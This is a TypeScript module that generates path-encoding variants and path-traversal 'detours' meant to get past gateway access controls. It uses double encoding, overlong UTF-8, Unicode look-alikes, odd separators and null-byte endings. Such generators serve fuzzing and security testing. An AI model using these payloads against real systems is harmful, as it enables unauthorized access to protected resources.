/**
 * Ways to write a path so that one server reads it as another path: every spelling of its letters and of its separators
 * that has gone around some gateway, made from plain paths.
 */

/** Every spelling of one path, itself left out; no two are the same. */
export function spellings(path: string): string[] {
  const segments = path.slice(1).split("/");
  const found = new Set<string>();
  for (const [position, segment] of segments.entries()) {
    for (const spelling of segmentSpellings(segment))
      found.add(`/${segments.map((other, k) => (k === position ? spelling : other)).join("/")}`);
  }
  for (const separator of SEPARATORS) {
    for (let position = 0; position < segments.length; position++) {
      const before = segments.slice(0, position).join("/");
      const after = segments.slice(position).join("/");
      found.add(position === 0 ? separator + after : `/${before}${separator}${after}`);
    }
    found.add(segments.map((segment) => separator + segment).join(""));
    found.add(path + separator);
  }
  for (const ending of ENDINGS) found.add(path + ending);
  found.delete(path);
  return [...found];
}

/** Ways out of a path that may be reached, to one that may not: `/open/..%2fclosed`. */
export function detours(open: string, closed: string): string[] {
  const up = "/..".repeat(open.split("/").length - 1);
  const found = new Set<string>();
  for (const [position, parent] of PARENTS.entries()) {
    // Each parent with the plainest separators, each separator with the plainest parents: not every pair of two oddities.
    for (const separator of position < 3 ? SEPARATORS : ["/", "%2f", "\\", "//"]) {
      const ups = up
        .slice(1)
        .split("/")
        .map(() => parent);
      found.add(`${open}${separator}${ups.join(separator)}${closed}`);
      found.add(`${open}${separator}${ups.join("/")}${separator}${closed.slice(1)}`);
      found.add(`${open}/x${separator}${[parent, ...ups].join("/")}${closed}`);
      found.add(`${open}${separator}${ups.join(separator)}${closed.replaceAll("/", separator)}`);
    }
  }
  return [...found];
}

/** What some server takes for a slash. */
const SEPARATORS = [
  ...["//", "///", "/./", "/.//", "/%2e/", "/%2E/", "/x/../", "/x/%2e%2e/", "/x/.%2e/", "/x/..;/", "/;/", "/;x=y/"],
  ...["\\", "/\\", "\\/", "%2f", "%2F", "/%2f", "%2f/", "%5c", "%5C", "%252f", "%252F", "%255c", "%25252f"],
  ...["%c0%af", "%c1%9c", "%e0%80%af", "%f0%80%80%af", "%c0%2f", "%u002f", "%u2215", "%%32%66", "%%2f"],
  ...["%ef%bc%8f", "%e2%88%95", "%e2%81%84", "%ef%bc%bc", "/%20/", "/%09/", "/%00/", "/%0a", "%0d%0a/", "/%e2%80%8b/"],
];

/** What some server takes for a parent segment. */
const PARENTS = [
  ...["..", "%2e%2e", "%2E%2E", ".%2e", "%2e.", "..;", "..;x=1", ";..", "%252e%252e", "%c0%ae%c0%ae", "%e0%80%ae."],
  ...["..%00", "..%20", "%20..", "..%09", "..%0d%0a", "..%ff", "...", "..\\", "%u002e%u002e", "%ef%bc%8e%ef%bc%8e"],
];

/** What some server cuts off. */
const ENDINGS = [
  ...["/.", "/..", "/./", "/../", "/%2e", "/%2e%2e", ".", "..", "%2e", "%20", "%09", "%0a", "%0d", "%00", "%00.html"],
  ...[";", ";/", ";a=b", "%3b", "%3B", "%3f", "%23", "%26", "*", "~", ".json", ".css", "%ff", "%c0%80", "%e2%80%8b"],
  ...["%25", "%", "%2", "%zz", "%7f", "%c2%85", "%ed%a0%80", "%f4%90%80%80", "%u0000", "#", "#x", "/#", "%20/", "%20."],
];

/** What folds to an ASCII letter: full width, Kelvin and long s, dotless i, Cyrillic and Greek look-alikes. */
const LOOK_ALIKES: Readonly<Record<string, readonly string[]>> = {
  a: ["\u0430", "\u03b1", "\u00e1", "\u1d43"],
  i: ["\u0131", "\u0130", "\u0456", "\u2170"],
  k: ["\u212a"],
  s: ["\u017f", "\u0455", "\u00df"],
  e: ["\u0435", "\u212f"],
  p: ["\u0440"],
};

function segmentSpellings(segment: string): string[] {
  const found = [segment.toUpperCase(), segment[0]?.toUpperCase() + segment.slice(1), swapped(segment)];
  const all = (write: (char: string) => string): string => [...segment].map(write).join("");
  for (const write of [escaped, (c: string) => escaped(c).toLowerCase(), twice, thrice, ...OVERLONG, unicodeEscaped])
    found.push(all(write));
  for (const [position, char] of [...segment].entries()) {
    const put = (text: string): void => {
      found.push(segment.slice(0, position) + text + segment.slice(position + 1));
    };
    for (const write of [escaped, twice, thrice, ...OVERLONG, unicodeEscaped, fullWidth]) put(write(char));
    put(char.toUpperCase());
    for (const like of LOOK_ALIKES[char] ?? []) put(encodeURIComponent(like));
    for (const hidden of [
      "%00",
      "%09",
      "%0a",
      "%0d",
      "%20",
      "%c2%ad",
      "%e2%80%8b",
      "%ef%bb%bf",
      "%2e",
      ";",
      "\\",
      "\t",
    ])
      put(char + hidden);
  }
  for (const before of ["%20", ".", "%2e", "%00", "%c2%a0", ";", "./", "../", "%2e/", "%2e%2e/", "\xe9", "%e9"])
    found.push(before + segment);
  return found;
}

function escaped(char: string): string {
  return `%${char.charCodeAt(0).toString(16).padStart(2, "0").toUpperCase()}`;
}

function twice(char: string): string {
  return escaped(char).replace("%", "%25");
}

function thrice(char: string): string {
  return twice(char).replace("%", "%25");
}

function unicodeEscaped(char: string): string {
  return `%u00${char.charCodeAt(0).toString(16).padStart(2, "0")}`;
}

function fullWidth(char: string): string {
  return encodeURIComponent(String.fromCodePoint(char.charCodeAt(0) - 0x20 + 0xff00));
}

/** One ASCII character in two, three and four octets, which UTF-8 forbids (RFC 3629 §3). */
const OVERLONG = [
  (char: string) => octets(0xc0 | (char.charCodeAt(0) >> 6), 0x80 | (char.charCodeAt(0) & 0x3f)),
  (char: string) => octets(0xe0, 0x80 | (char.charCodeAt(0) >> 6), 0x80 | (char.charCodeAt(0) & 0x3f)),
  (char: string) => octets(0xf0, 0x80, 0x80 | (char.charCodeAt(0) >> 6), 0x80 | (char.charCodeAt(0) & 0x3f)),
];

function octets(...bytes: number[]): string {
  return bytes.map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
}

function swapped(text: string): string {
  return [...text].map((char, k) => (k % 2 === 1 ? char.toUpperCase() : char)).join("");
}
